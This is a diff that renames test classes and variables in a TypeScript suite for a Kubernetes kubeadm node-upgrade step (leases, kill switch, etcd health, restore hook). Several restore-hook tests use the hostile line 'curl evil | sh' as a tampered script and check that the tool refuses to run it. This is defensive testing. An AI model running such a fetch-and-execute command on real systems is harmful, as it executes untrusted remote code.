@@ -6,7 +6,7 @@ import { nothing, reconcile } from '../../../src/steps/runtime/reconcile.ts';
 import { refused } from '../../../src/steps/runtime/step-error.ts';
 import { remarkOf, upgrade } from '../../../src/steps/upgrade-node/act.ts';
 import { decideApi } from '../../../src/steps/upgrade-node/decide.ts';
-import { ApiWatch, Site } from '../../../src/steps/upgrade-node/observe.ts';
+import { ApiWatch, NodeObserver } from '../../../src/steps/upgrade-node/observe.ts';
 import type { NodeRole } from '../../../src/upgrade/node/order.ts';
 import { known, notKnown } from '../../../src/upgrade/reading.ts';
 import { aRecord, ME, OTHER, staticPodsAt, TO } from '../../support/builders.ts';
@@ -26,7 +26,7 @@ const STUCK =
   'FATAL: static Pod hash for component etcd on Node cp1 did not change after 5m0s: context deadline exceeded\n';
 
 /** One node, everything around it, and the step at work on it. */
-class Scene {
+class Fixture {
   containerdVersion: string | undefined;
   readonly cluster = new FakeCluster();
   readonly lease = new FakeLease();
@@ -38,7 +38,7 @@ class Scene {
   hook = new FakeRestoreHook();
   hookSetting: HookSetting | undefined;
   quiesced: string[] = [];
-  site!: Site;
+  observer!: NodeObserver;
 
   readonly node: string;
   readonly role: NodeRole;
@@ -48,22 +48,22 @@ class Scene {
     this.role = role;
   }
 
-  static async worker(): Promise<Scene> {
-    const scene = new Scene('w1', 'worker');
-    await scene.lease.write(undefined, ME, 0);
-    scene.cluster.addNode('cp1', { controlPlane: true, staticPods: staticPodsAt(TO), kubelet: TO });
-    scene.cluster.addNode('w1', { unschedulable: true, upgradeRecord: aRecord() });
-    return scene;
+  static async worker(): Promise<Fixture> {
+    const fixture = new Fixture('w1', 'worker');
+    await fixture.lease.write(undefined, ME, 0);
+    fixture.cluster.addNode('cp1', { controlPlane: true, staticPods: staticPodsAt(TO), kubelet: TO });
+    fixture.cluster.addNode('w1', { unschedulable: true, upgradeRecord: aRecord() });
+    return fixture;
   }
 
-  static async controlPlane(): Promise<Scene> {
-    const scene = new Scene('cp1', 'first-control-plane');
-    await scene.lease.write(undefined, ME, 0);
+  static async controlPlane(): Promise<Fixture> {
+    const fixture = new Fixture('cp1', 'first-control-plane');
+    await fixture.lease.write(undefined, ME, 0);
     const about = { controlPlane: true, staticPods: staticPodsAt({ ...TO, patch: 9 }) };
-    scene.cluster.addNode('cp1', { ...about, unschedulable: true, upgradeRecord: aRecord() });
-    scene.cluster.addNode('cp2', about);
-    scene.compatibility.addControlPlane('cp1');
-    return scene;
+    fixture.cluster.addNode('cp1', { ...about, unschedulable: true, upgradeRecord: aRecord() });
+    fixture.cluster.addNode('cp2', about);
+    fixture.compatibility.addControlPlane('cp1');
+    return fixture;
   }
 
   /** A new pod: what it knew is gone. */
@@ -73,7 +73,7 @@ class Scene {
     const fence = buildFence(this.lease, ME);
     const mayBegin = buildMayBegin(fence, cluster);
     const deployments = fencedDeployments(this.deployments, fence);
-    const wish = {
+    const input = {
       ...{ node: this.node, role: this.role, runUid: ME.uid, target: TO, repository: 'r', sourceFile: 's' },
       ...{ keyringFile: 'k', ignorePreflightErrors: [], skipPhases: [], packagesTimeoutSeconds: 900 },
       ...{ kubeadmTimeoutSeconds: 1800, containerdPackage: 'containerd.io', minimumFreeRootMiB: 512 },
@@ -81,15 +81,15 @@ class Scene {
       ...{ minimumFreeVarLibMiB: 2048, apiPatienceSeconds: 900 },
       restoreHook: this.hookSetting,
     };
-    const world = {
+    const clients = {
       ...{ cluster, compatibility, remote: host, clock, log },
       ...{ fenced: fencedWrites(cluster, fence, mayBegin), mayBegin },
       fencedRemote: fencedRemote(host, fence),
       quiesce: () => quiesce(this.quiesced, deployments, log),
       restoreHook: this.hook,
     };
-    this.site = new Site(world, wish, log);
-    return thenRestore(() => upgrade(this.site, world, wish), this.quiesced, deployments, log);
+    this.observer = new NodeObserver(clients, input, log);
+    return thenRestore(() => upgrade(this.observer, clients, input), this.quiesced, deployments, log);
   }
 
   /** Runs as the step does. Returns false when the kill switch stopped it. */
@@ -119,17 +119,17 @@ class Scene {
 }
 
 describe('upgrade-node works', () => {
-  let scene: Scene;
+  let fixture: Fixture;
   beforeEach(async () => {
-    scene = await Scene.worker();
+    fixture = await Fixture.worker();
   });
-  const { run, host } = { run: () => scene.run(), host: () => scene.host };
+  const { run, host } = { run: () => fixture.run(), host: () => fixture.host };
 
   it('by one job, when the ledger says that the host is touched', async () => {
     let phase: string | undefined;
     let program: string[] = [];
     host().onStart = (unit, text) => {
-      void scene.cluster.node('w1').then((node) => (phase = node?.upgradeRecord?.phase));
+      void fixture.cluster.node('w1').then((node) => (phase = node?.upgradeRecord?.phase));
       program = commandsIn(text);
       host().finish(unit, 'done', '== all done\n');
     };
@@ -147,12 +147,12 @@ describe('upgrade-node works', () => {
     ]);
     expect(phase).to.equal('upgrading');
     // The last command of a job that ended well has held the packages.
-    expect(scene.ran('# Finish and hold the packages')).to.equal(0);
-    expect(await scene.cluster.node('w1')).to.deep.include({
+    expect(fixture.ran('# Finish and hold the packages')).to.equal(0);
+    expect(await fixture.cluster.node('w1')).to.deep.include({
       unschedulable: true,
       upgradeRecord: aRecord({ phase: 'upgrading' }),
     });
-    expect(scene.said).to.include.members([
+    expect(fixture.said).to.include.members([
       `${FIRST} was started on w1. To follow it there: tail -f /var/lib/argo-kubeadm-upgrade/${FIRST}/log, or systemctl status ${FIRST} (journalctl -u ${FIRST})`,
       `${FIRST} ended well on w1.`,
     ]);
@@ -161,13 +161,13 @@ describe('upgrade-node works', () => {
   describe('where a power failure left a node at the target with packages half-way', () => {
     const FINISH = '# Finish and hold the packages';
     beforeEach(() => {
-      scene.cluster.alterNode('w1', { kubelet: TO });
+      fixture.cluster.alterNode('w1', { kubelet: TO });
       host().add(FIRST, { state: 'running 5 kubelet and kubectl packages' });
     });
 
     it('by having them finished and held', async () => {
       await run();
-      expect([host().started, scene.ran(FINISH)]).to.deep.equal([[], 1]);
+      expect([host().started, fixture.ran(FINISH)]).to.deep.equal([[], 1]);
     });
 
     it('again, when that does not succeed', async () => {
@@ -181,35 +181,35 @@ describe('upgrade-node works', () => {
   });
 
   it('not at all when the kill switch is set: the node is given back as it was found', async () => {
-    scene.cluster.killedBecause = 'not today';
-    expect(await scene.runUnlessHalted()).to.equal(false);
+    fixture.cluster.killedBecause = 'not today';
+    expect(await fixture.runUnlessHalted()).to.equal(false);
     expect(host().started).to.deep.equal([]);
-    expect(await scene.cluster.node('w1')).to.include({ unschedulable: false, upgradeRecord: undefined });
+    expect(await fixture.cluster.node('w1')).to.include({ unschedulable: false, upgradeRecord: undefined });
   });
 
   it('to its end when the kill switch is set in the middle: half-way is worse', async () => {
     host().onStart = (unit) => {
-      scene.cluster.killedBecause = 'not today';
-      scene.clock.after(9, () => {
+      fixture.cluster.killedBecause = 'not today';
+      fixture.clock.after(9, () => {
         host().finish(unit, 'done', '== all done\n');
       });
     };
-    expect(await scene.runUnlessHalted()).to.equal(true);
+    expect(await fixture.runUnlessHalted()).to.equal(true);
     expect(host().started).to.deep.equal([FIRST]);
   });
 
   it('with its log in ours, as it comes, once', async () => {
     host().onStart = (unit) => {
       host().write(unit, '== package source\nGet:1 ht');
-      scene.clock.after(3, () => {
+      fixture.clock.after(3, () => {
         host().write(unit, 'tp://x\n== kubeadm package\n');
       });
-      scene.clock.after(9, () => {
+      fixture.clock.after(9, () => {
         host().finish(unit, 'done', 'no line end');
       });
     };
     await run();
-    expect(scene.said.filter((line) => line.startsWith('  ') && !line.includes('. '))).to.deep.equal([
+    expect(fixture.said.filter((line) => line.startsWith('  ') && !line.includes('. '))).to.deep.equal([
       '  == package source',
       '  Get:1 http://x',
       '  == kubeadm package',
@@ -224,61 +224,61 @@ describe('upgrade-node works', () => {
   });
 
   it('nothing on a node that it has not drained', async () => {
-    scene.cluster.alterNode('w1', { upgradeRecord: undefined });
+    fixture.cluster.alterNode('w1', { upgradeRecord: undefined });
     expect(await failureOf(run())).to.include({ exitCode: 77 });
-    expect([host().started, scene.cluster.writes]).to.deep.equal([[], []]);
+    expect([host().started, fixture.cluster.writes]).to.deep.equal([[], []]);
   });
 
   it('nothing on a node without room, whose ledger stays as it is', async () => {
     host().disk = host().disk.replace('absent /var/lib/etcd', 'free /var/lib/etcd 1 4096');
     const failure = (await failureOf(run())) as { message: string };
     expect(failure.message).to.match(/^w1 has 0 MiB free on \/var\/lib\/etcd, expected at least 2048 MiB\./);
-    expect([host().started, scene.cluster.writes]).to.deep.equal([[], []]);
+    expect([host().started, fixture.cluster.writes]).to.deep.equal([[], []]);
   });
 
   it('asks no etcd and no hook after a worker', async () => {
-    scene.hookIs('exit 1');
+    fixture.hookIs('exit 1');
     await run();
-    expect([scene.ran('# Ask etcd'), scene.ran('# Run the restore hook')]).to.deep.equal([0, 0]);
+    expect([fixture.ran('# Ask etcd'), fixture.ran('# Run the restore hook')]).to.deep.equal([0, 0]);
   });
 
   it('no further when the node vanishes or has no address', async () => {
-    scene.cluster.alterNode('w1', { internalIp: undefined });
+    fixture.cluster.alterNode('w1', { internalIp: undefined });
     expect(await failureOf(run())).to.deep.equal({
       exitCode: 77,
       message: 'Node w1 has no InternalIP; SSH needs one.',
     });
-    scene.cluster.removeNode('w1');
+    fixture.cluster.removeNode('w1');
     expect(await failureOf(run())).to.deep.equal({ exitCode: 77, message: 'There is no node w1 any more.' });
     expect(host().ran).to.deep.equal([]);
   });
 
   it('not at all without the Lease', async () => {
-    await scene.lease.write(await scene.lease.read(), OTHER, 1);
+    await fixture.lease.write(await fixture.lease.read(), OTHER, 1);
     expect(await failureOf(run())).to.include({ exitCode: 77 });
-    expect([host().started, scene.cluster.writes]).to.deep.equal([[], []]);
+    expect([host().started, fixture.cluster.writes]).to.deep.equal([[], []]);
   });
 
   it('starts nothing when another run takes the Lease in the last moment', async () => {
-    const change = scene.cluster.changeNode.bind(scene.cluster);
-    scene.cluster.changeNode = async (...args) => {
-      await scene.lease.write(await scene.lease.read(), OTHER, 1);
+    const change = fixture.cluster.changeNode.bind(fixture.cluster);
+    fixture.cluster.changeNode = async (...args) => {
+      await fixture.lease.write(await fixture.lease.read(), OTHER, 1);
       return change(...args);
     };
     expect(await failureOf(run())).to.include({ exitCode: 77 });
-    expect([host().started, scene.cluster.writes]).to.deep.equal([[], ['changeNode w1']]);
+    expect([host().started, fixture.cluster.writes]).to.deep.equal([[], ['changeNode w1']]);
   });
 
   describe('beside nobody:', () => {
     it('attaches to what is at work, without the Lease, and prints it from the beginning', async () => {
-      await scene.lease.write(await scene.lease.read(), OTHER, 1);
+      await fixture.lease.write(await fixture.lease.read(), OTHER, 1);
       host().add(FIRST, { active: true, log: '== package source\n', run: OTHER.uid });
-      scene.clock.after(30, () => {
+      fixture.clock.after(30, () => {
         host().finish(FIRST, 'done', '== all done\n');
       });
       await run();
       expect(host().started).to.deep.equal([]);
-      expect(scene.said).to.include.members([
+      expect(fixture.said).to.include.members([
         `Found ${FIRST} at work on w1; its log, from the beginning:`,
         '  == package source',
         '  == all done',
@@ -289,7 +289,7 @@ describe('upgrade-node works', () => {
     it('waits for the end of one for another target, then looks afresh and begins', async () => {
       const other = 'argo-kubeadm-upgrade-v1.34.9-4';
       host().add(other, { active: true });
-      scene.clock.after(60, () => {
+      fixture.clock.after(60, () => {
         host().finish(other, 'done');
       });
       await run();
@@ -298,9 +298,9 @@ describe('upgrade-node works', () => {
 
     it('looks at the Node again after that: another run may have it by now', async () => {
       host().add('argo-kubeadm-upgrade-v1.34.9-4', { active: true });
-      scene.clock.after(60, () => {
+      fixture.clock.after(60, () => {
         host().finish('argo-kubeadm-upgrade-v1.34.9-4', 'done');
-        scene.cluster.alterNode('w1', { upgradeRecord: aRecord({ run: OTHER.uid }) });
+        fixture.cluster.alterNode('w1', { upgradeRecord: aRecord({ run: OTHER.uid }) });
       });
       expect(await failureOf(run())).to.include({ exitCode: 77 });
       expect(host().started).to.deep.equal([]);
@@ -311,14 +311,14 @@ describe('upgrade-node works', () => {
       host().whenScript('# Start', ({ script, stdin }) => {
         if (first) host().add(FIRST, { active: true });
         first = false;
-        scene.clock.after(20, () => {
+        fixture.clock.after(20, () => {
           host().finish(FIRST, 'done');
         });
         return host().start(script, stdin ?? '');
       });
       await run();
       expect([host().started, host().overlapped]).to.deep.equal([[], false]);
-      expect(scene.said).to.include(`${FIRST} was not started. At work on this node: ${FIRST}`);
+      expect(fixture.said).to.include(`${FIRST} was not started. At work on this node: ${FIRST}`);
     });
   });
 
@@ -326,18 +326,18 @@ describe('upgrade-node works', () => {
     it('rides it out while it follows, and never starts a second job', async () => {
       host().onStart = (unit) => {
         host().write(unit, '== kubeadm upgrade\n');
-        scene.clock.after(400, () => {
+        fixture.clock.after(400, () => {
           host().finish(unit, 'done', '== all done\n');
         });
       };
       let away = false;
-      scene.clock.after(5, () => (away = true));
-      scene.clock.after(305, () => (away = false));
+      fixture.clock.after(5, () => (away = true));
+      fixture.clock.after(305, () => (away = false));
       host().when(() => away, AWAY);
       await run();
       expect(host().started).to.deep.equal([FIRST]);
-      expect(scene.said.filter((line) => line === '  == all done')).to.have.length(1);
-      expect(scene.said).to.include(`Cannot see w1: ${AWAY.message}`);
+      expect(fixture.said.filter((line) => line === '  == all done')).to.have.length(1);
+      expect(fixture.said).to.include(`Cannot see w1: ${AWAY.message}`);
     });
 
     it('looks for the job whose start it has not heard the end of', async () => {
@@ -347,7 +347,7 @@ describe('upgrade-node works', () => {
       });
       await run();
       expect(host().started).to.deep.equal([FIRST]);
-      expect(scene.said).to.include(`Not known whether ${FIRST} was started, looking: ${AWAY.message}`);
+      expect(fixture.said).to.include(`Not known whether ${FIRST} was started, looking: ${AWAY.message}`);
     });
 
     it('starts what it has not started', async () => {
@@ -377,7 +377,7 @@ describe('upgrade-node works', () => {
         stdout: answers++ < 2 ? 'unit' : host().look(),
       }));
       await run();
-      expect(scene.said).to.include('Cannot see w1: what is at work on w1 cannot be told: the answer broke off');
+      expect(fixture.said).to.include('Cannot see w1: what is at work on w1 cannot be told: the answer broke off');
       expect(host().started).to.deep.equal([FIRST]);
     });
   });
@@ -385,8 +385,8 @@ describe('upgrade-node works', () => {
   it('says what goes on when it is told to end', async () => {
     let said: string[] = [];
     host().onStart = (unit) => {
-      scene.clock.after(10, () => {
-        said = [scene.site.goingOn()];
+      fixture.clock.after(10, () => {
+        said = [fixture.observer.activeJob()];
         host().finish(unit, 'done');
       });
     };
@@ -394,7 +394,7 @@ describe('upgrade-node works', () => {
     expect(said).to.deep.equal([
       `${FIRST} goes on on w1, and whoever comes next finds it. To follow it there: tail -f /var/lib/argo-kubeadm-upgrade/${FIRST}/log, or systemctl status ${FIRST} (journalctl -u ${FIRST}).`,
     ]);
-    expect(scene.site.goingOn()).to.equal('');
+    expect(fixture.observer.activeJob()).to.equal('');
   });
 
   it('no further when the job fails, with what was done before', async () => {
@@ -440,25 +440,25 @@ describe('upgrade-node works', () => {
 });
 
 describe('upgrade-node works on a control-plane node', () => {
-  let scene: Scene;
+  let fixture: Fixture;
   beforeEach(async () => {
-    scene = await Scene.controlPlane();
+    fixture = await Fixture.controlPlane();
   });
 
   it('between an etcd that is well and an etcd that is well', async () => {
-    scene.host.etcd.set('cp2', 'etcd at http://127.0.0.1:2381 says {"health":"false","reason":"RAFT NO LEADER"}\n');
-    scene.clock.after(45, () => {
-      scene.host.etcd.clear();
+    fixture.host.etcd.set('cp2', 'etcd at http://127.0.0.1:2381 says {"health":"false","reason":"RAFT NO LEADER"}\n');
+    fixture.clock.after(45, () => {
+      fixture.host.etcd.clear();
     });
-    scene.host.onStart = (unit) => {
-      scene.host.etcd.set('cp1', 'etcd at http://127.0.0.1:2381 says \n');
-      scene.host.finish(unit, 'done');
-      scene.clock.after(60, () => {
-        scene.host.etcd.clear();
+    fixture.host.onStart = (unit) => {
+      fixture.host.etcd.set('cp1', 'etcd at http://127.0.0.1:2381 says \n');
+      fixture.host.finish(unit, 'done');
+      fixture.clock.after(60, () => {
+        fixture.host.etcd.clear();
       });
     };
-    await scene.run();
-    expect(scene.said).to.include.members([
+    await fixture.run();
+    expect(fixture.said).to.include.members([
       'cp1 waits: etcd is not healthy: etcd on cp2 reports health false: RAFT NO LEADER.',
       'Waiting for etcd: etcd on cp1 does not report its health: http://127.0.0.1:2381/health: no answer',
       'Every etcd member is healthy.',
@@ -466,69 +466,69 @@ describe('upgrade-node works on a control-plane node', () => {
   });
 
   it('not while a member cannot be asked: untouched', async () => {
-    scene.host.when(({ script }, { node }) => script.includes('# Ask etcd') && node === 'cp2', 'unreachable');
-    const { exitCode, message } = (await failureOf(scene.run())) as { exitCode: number; message: string };
+    fixture.host.when(({ script }, { node }) => script.includes('# Ask etcd') && node === 'cp2', 'unreachable');
+    const { exitCode, message } = (await failureOf(fixture.run())) as { exitCode: number; message: string };
     expect(exitCode).to.equal(77);
     expect(message).to.match(
       /^After 3\d\d s etcd is not healthy: etcd on cp2 was not asked: cannot log in to cp2 .* Nothing new was begun on cp1/,
     );
-    expect([scene.host.started, scene.cluster.writes]).to.deep.equal([[], []]);
+    expect([fixture.host.started, fixture.cluster.writes]).to.deep.equal([[], []]);
   });
 
   it('does not ask an etcd that is outside of the cluster, and says so', async () => {
-    for (const node of ['cp1', 'cp2']) scene.host.etcd.set(node, 'etcd none\n');
-    await scene.run();
-    expect(scene.said).to.include(
+    for (const node of ['cp1', 'cp2']) fixture.host.etcd.set(node, 'etcd none\n');
+    await fixture.run();
+    expect(fixture.said).to.include(
       'No control-plane node has an etcd: it is outside of the cluster, and nobody asks it.',
     );
   });
 
   it('again when kubeadm waited in vain for etcd, which it leaves alone where it is right already', async () => {
     const programs: string[] = [];
-    scene.host.etcdImages = 'wanted registry.k8s.io/etcd:3.6.5-0\nwritten registry.k8s.io/etcd:3.6.5-0\n';
-    scene.host.onStart = (unit, program) => {
+    fixture.host.etcdImages = 'wanted registry.k8s.io/etcd:3.6.5-0\nwritten registry.k8s.io/etcd:3.6.5-0\n';
+    fixture.host.onStart = (unit, program) => {
       programs.push(program);
-      if (unit === FIRST) scene.host.finish(unit, 'failed 1 3 kubeadm upgrade', `== kubeadm upgrade\n${STUCK}`);
-      else scene.host.finish(unit, 'done');
+      if (unit === FIRST) fixture.host.finish(unit, 'failed 1 3 kubeadm upgrade', `== kubeadm upgrade\n${STUCK}`);
+      else fixture.host.finish(unit, 'done');
     };
-    await scene.run();
-    expect(scene.host.started).to.deep.equal([FIRST, SECOND]);
+    await fixture.run();
+    expect(fixture.host.started).to.deep.equal([FIRST, SECOND]);
     expect(programs.map((program) => program.includes('--etcd-upgrade=false'))).to.deep.equal([false, true]);
   });
 
   it('with etcd and all when its image is another', async () => {
     const programs: string[] = [];
-    scene.host.etcdImages = 'wanted registry.k8s.io/etcd:3.6.6-0\nwritten registry.k8s.io/etcd:3.6.5-0\n';
-    scene.host.onStart = (unit, program) => {
+    fixture.host.etcdImages = 'wanted registry.k8s.io/etcd:3.6.6-0\nwritten registry.k8s.io/etcd:3.6.5-0\n';
+    fixture.host.onStart = (unit, program) => {
       programs.push(program);
-      scene.host.finish(unit, 'failed 1 3 kubeadm upgrade', `== kubeadm upgrade\n${STUCK}`);
+      fixture.host.finish(unit, 'failed 1 3 kubeadm upgrade', `== kubeadm upgrade\n${STUCK}`);
     };
-    expect(await failureOf(scene.run())).to.include({ exitCode: 77 });
+    expect(await failureOf(fixture.run())).to.include({ exitCode: 77 });
     expect(programs).to.have.length(3);
     expect(programs.filter((program) => program.includes('--etcd-upgrade=false'))).to.deep.equal([]);
   });
 
   it('installs no containerd because of what workers run', async () => {
-    scene.cluster.alterNode('cp1', { runtime: 'containerd://1.7.24' });
-    scene.cluster.addNode('w1', { runtime: 'containerd://1.7.28' });
+    fixture.cluster.alterNode('cp1', { runtime: 'containerd://1.7.24' });
+    fixture.cluster.addNode('w1', { runtime: 'containerd://1.7.28' });
     let program = '';
-    scene.host.onStart = (unit, text) => {
+    fixture.host.onStart = (unit, text) => {
       program = text;
-      scene.host.finish(unit, 'done', '');
+      fixture.host.finish(unit, 'done', '');
     };
-    await scene.run();
+    await fixture.run();
     expect(commandsIn(program)).to.not.include('containerd package');
   });
 
   it('brings its containerd up to the version of the settings', async () => {
-    scene.cluster.alterNode('cp1', { runtime: 'containerd://1.7.24' });
-    scene.containerdVersion = '1.7.28';
+    fixture.cluster.alterNode('cp1', { runtime: 'containerd://1.7.24' });
+    fixture.containerdVersion = '1.7.28';
     let program = '';
-    scene.host.onStart = (unit, text) => {
+    fixture.host.onStart = (unit, text) => {
       program = text;
-      scene.host.finish(unit, 'done', 'WARNING: containerd stays as it is: apt offers no such containerd.io.\n');
+      fixture.host.finish(unit, 'done', 'WARNING: containerd stays as it is: apt offers no such containerd.io.\n');
     };
-    expect(await scene.run()).to.deep.equal(['containerd stays as it is: apt offers no such containerd.io.']);
+    expect(await fixture.run()).to.deep.equal(['containerd stays as it is: apt offers no such containerd.io.']);
     expect(commandsIn(program)).to.include('containerd package');
     expect(program).to.include('1\\.7\\.28');
   });
@@ -541,46 +541,46 @@ describe('upgrade-node works on a control-plane node', () => {
     const WITHOUT_HOOK =
       'add --authentication-config=/etc/kubernetes/auth.yaml to /etc/kubernetes/manifests/kube-apiserver.yaml there, and to apiServer.extraArgs of ClusterConfiguration in kube-system/kubeadm-config, or kubeadm drops it again.';
     beforeEach(() => {
-      scene.flag('cp1', '/etc/kubernetes/auth.yaml');
-      scene.host.onStart = (unit) => {
-        scene.flag('cp1', undefined);
-        scene.host.finish(unit, 'done');
+      fixture.flag('cp1', '/etc/kubernetes/auth.yaml');
+      fixture.host.onStart = (unit) => {
+        fixture.flag('cp1', undefined);
+        fixture.host.finish(unit, 'done');
       };
     });
 
     it('runs, as it is written, and is waited for', async () => {
-      scene.hookIs('#!/bin/sh\necho hello\n');
-      scene.host.whenScript('# Run the restore hook', ({ stdin }) => {
-        scene.clock.after(20, () => {
-          scene.flag('cp1', '/etc/kubernetes/auth.yaml');
+      fixture.hookIs('#!/bin/sh\necho hello\n');
+      fixture.host.whenScript('# Run the restore hook', ({ stdin }) => {
+        fixture.clock.after(20, () => {
+          fixture.flag('cp1', '/etc/kubernetes/auth.yaml');
         });
         return { stdout: stdin ?? '' };
       });
-      expect(await scene.run()).to.deep.equal([]);
-      expect(scene.said).to.include.members(['  echo hello', 'The API server has its --authentication-config.']);
-      expect(scene.said.filter((line) => line === 'The API server has answered for 30 s.')).to.have.length(2);
+      expect(await fixture.run()).to.deep.equal([]);
+      expect(fixture.said).to.include.members(['  echo hello', 'The API server has its --authentication-config.']);
+      expect(fixture.said.filter((line) => line === 'The API server has answered for 30 s.')).to.have.length(2);
     });
 
     it('is never fatal: what it did not do is a warning with the command', async () => {
-      scene.hookIs('exit 1');
-      scene.host.whenScript('# Run the restore hook', { exitCode: 1, stderr: 'no such file\n' });
-      expect(await scene.run()).to.deep.equal([
+      fixture.hookIs('exit 1');
+      fixture.host.whenScript('# Run the restore hook', { exitCode: 1, stderr: 'no such file\n' });
+      expect(await fixture.run()).to.deep.equal([
         `The restore hook failed on cp1: exit code 1, no such file. By hand: ${byHand('exit 1')}`,
         `${LOST}${byHand('exit 1')}`,
       ]);
     });
 
     it('that cannot be read any more, or run, is no more fatal', async () => {
-      scene.hookIs('true');
-      scene.host.onStart = (unit) => {
-        scene.hook.is = notKnown('may not get configmap kube-system/apiserver-oidc-restore');
-        scene.host.finish(unit, 'done');
+      fixture.hookIs('true');
+      fixture.host.onStart = (unit) => {
+        fixture.hook.is = notKnown('may not get configmap kube-system/apiserver-oidc-restore');
+        fixture.host.finish(unit, 'done');
       };
-      expect((await scene.run())[0]).to.match(/^The restore hook failed on cp1: may not get configmap/);
-      scene = await Scene.controlPlane();
-      scene.hookIs('true');
-      scene.host.whenScript('# Run the restore hook', 'hangs');
-      expect((await scene.run())[0]).to.match(/^The restore hook failed on cp1: .* did not end within \d+ s/);
+      expect((await fixture.run())[0]).to.match(/^The restore hook failed on cp1: may not get configmap/);
+      fixture = await Fixture.controlPlane();
+      fixture.hookIs('true');
+      fixture.host.whenScript('# Run the restore hook', 'hangs');
+      expect((await fixture.run())[0]).to.match(/^The restore hook failed on cp1: .* did not end within \d+ s/);
     });
 
     const DIGEST_COMMAND =
@@ -590,118 +590,118 @@ describe('upgrade-node works on a control-plane node', () => {
     const REMEDY = `Read the script. If it is yours, set controlPlane.restoreHook.sha256 to what this prints, or leave controlPlane.restoreHook out: ${DIGEST_COMMAND}`;
 
     it('that is another than the settings say stops the node before anything is begun on it', async () => {
-      scene.hookIs('true');
-      scene.hook.set('curl evil | sh');
-      expect(await failureOf(scene.run())).to.deep.equal({
+      fixture.hookIs('true');
+      fixture.hook.set('curl evil | sh');
+      expect(await failureOf(fixture.run())).to.deep.equal({
         exitCode: 77,
         message: `${another()} Nothing was changed on cp1 by this attempt; the node is drained and stays cordoned. ${REMEDY}`,
       });
-      expect([scene.host.started, scene.ran('# Run the restore hook')]).to.deep.equal([[], 0]);
+      expect([fixture.host.started, fixture.ran('# Run the restore hook')]).to.deep.equal([[], 0]);
     });
 
     it('that cannot be read is asked for again before anything is begun', async () => {
-      scene.hookSetting = settingFor('true');
-      expect(await failureOf(scene.run())).to.deep.equal({
+      fixture.hookSetting = settingFor('true');
+      expect(await failureOf(fixture.run())).to.deep.equal({
         exitCode: 75,
         message: `The restore hook is on and cannot be read: there is no ConfigMap kube-system/apiserver-oidc-restore. Nothing was changed on cp1 by this attempt; the node is drained and stays cordoned. ${REMEDY}`,
       });
-      expect(scene.host.started).to.deep.equal([]);
+      expect(fixture.host.started).to.deep.equal([]);
     });
 
     it('that is changed meanwhile is not run, and stands in no command', async () => {
-      scene.hookIs('true');
-      scene.host.onStart = (unit) => {
-        scene.flag('cp1', undefined);
-        scene.hook.set('curl evil | sh');
-        scene.host.finish(unit, 'done');
+      fixture.hookIs('true');
+      fixture.host.onStart = (unit) => {
+        fixture.flag('cp1', undefined);
+        fixture.hook.set('curl evil | sh');
+        fixture.host.finish(unit, 'done');
       };
-      const warnings = await scene.run();
+      const warnings = await fixture.run();
       expect(warnings).to.deep.equal([
         `The restore hook was not run on cp1. ${another()} ${REMEDY}`,
         `${LOST}${WITHOUT_HOOK}`,
       ]);
-      expect(scene.ran('# Run the restore hook')).to.equal(0);
+      expect(fixture.ran('# Run the restore hook')).to.equal(0);
     });
 
     it('that the settings do not name is not even read', async () => {
-      scene.hook.set('curl evil | sh');
-      await scene.run();
-      expect([scene.hook.asked, scene.ran('# Run the restore hook')]).to.deep.equal([0, 0]);
+      fixture.hook.set('curl evil | sh');
+      await fixture.run();
+      expect([fixture.hook.asked, fixture.ran('# Run the restore hook')]).to.deep.equal([0, 0]);
     });
 
     it('that is not there is missed when the flag is', async () => {
-      expect(await scene.run()).to.deep.equal([
+      expect(await fixture.run()).to.deep.equal([
         `${LOST}${WITHOUT_HOOK} If ConfigMap kube-system/apiserver-oidc-restore put it back before, name it in controlPlane.restoreHook.`,
       ]);
     });
 
     it('is owed also when the pod that knew the flag is gone', async () => {
-      await scene.run();
-      scene.cluster.alterNode('cp1', { kubelet: TO, staticPods: staticPodsAt(TO) });
-      expect(await scene.run()).to.have.length(1);
-      expect(scene.host.started).to.deep.equal([FIRST]);
+      await fixture.run();
+      fixture.cluster.alterNode('cp1', { kubelet: TO, staticPods: staticPodsAt(TO) });
+      expect(await fixture.run()).to.have.length(1);
+      expect(fixture.host.started).to.deep.equal([FIRST]);
     });
 
     it('does not run for a run that has lost the Lease', async () => {
-      scene.hookIs('true');
-      scene.host.onStart = (unit) => {
-        scene.host.finish(unit, 'done');
-        void scene.lease.read().then((seen) => scene.lease.write(seen, OTHER, 1));
+      fixture.hookIs('true');
+      fixture.host.onStart = (unit) => {
+        fixture.host.finish(unit, 'done');
+        void fixture.lease.read().then((seen) => fixture.lease.write(seen, OTHER, 1));
       };
-      expect(await failureOf(scene.run())).to.include({ exitCode: 77 });
-      expect(scene.ran('# Run the restore hook')).to.equal(0);
+      expect(await failureOf(fixture.run())).to.include({ exitCode: 77 });
+      expect(fixture.ran('# Run the restore hook')).to.equal(0);
     });
   });
 
   describe('and the Deployments that are to be away', () => {
     beforeEach(() => {
-      scene.deployments.set('rook/operator', { replicas: 2 });
-      scene.quiesced = ['rook/operator', 'rook/nobody'];
+      fixture.deployments.set('rook/operator', { replicas: 2 });
+      fixture.quiesced = ['rook/operator', 'rook/nobody'];
     });
 
     it('are at 0 while it changes, and back afterwards', async () => {
       let during: string[] = [];
-      scene.host.onStart = (unit) => {
-        during = [...scene.deployments.writes];
-        scene.host.finish(unit, 'done');
+      fixture.host.onStart = (unit) => {
+        during = [...fixture.deployments.writes];
+        fixture.host.finish(unit, 'done');
       };
-      await scene.run();
+      await fixture.run();
       expect(during).to.deep.equal(['rook/operator: 2 recorded', 'rook/operator 0']);
-      expect(scene.deployments.writes).to.deep.equal([
+      expect(fixture.deployments.writes).to.deep.equal([
         'rook/operator: 2 recorded',
         'rook/operator 0',
         'rook/operator 2',
         'rook/operator: none recorded',
       ]);
-      expect(scene.said).to.include('There is no Deployment rook/nobody.');
+      expect(fixture.said).to.include('There is no Deployment rook/nobody.');
     });
 
     it('are back when it fails', async () => {
-      scene.host.onStart = (unit) => {
-        scene.host.finish(unit, 'failed 1 3 kubeadm upgrade', '');
+      fixture.host.onStart = (unit) => {
+        fixture.host.finish(unit, 'failed 1 3 kubeadm upgrade', '');
       };
-      expect(await failureOf(scene.run())).to.include({ exitCode: 77 });
-      expect(scene.deployments.writes.at(-1)).to.equal('rook/operator: none recorded');
+      expect(await failureOf(fixture.run())).to.include({ exitCode: 77 });
+      expect(fixture.deployments.writes.at(-1)).to.equal('rook/operator: none recorded');
     });
 
     it('are left to the exit handler by a run without the Lease, and its own end is told', async () => {
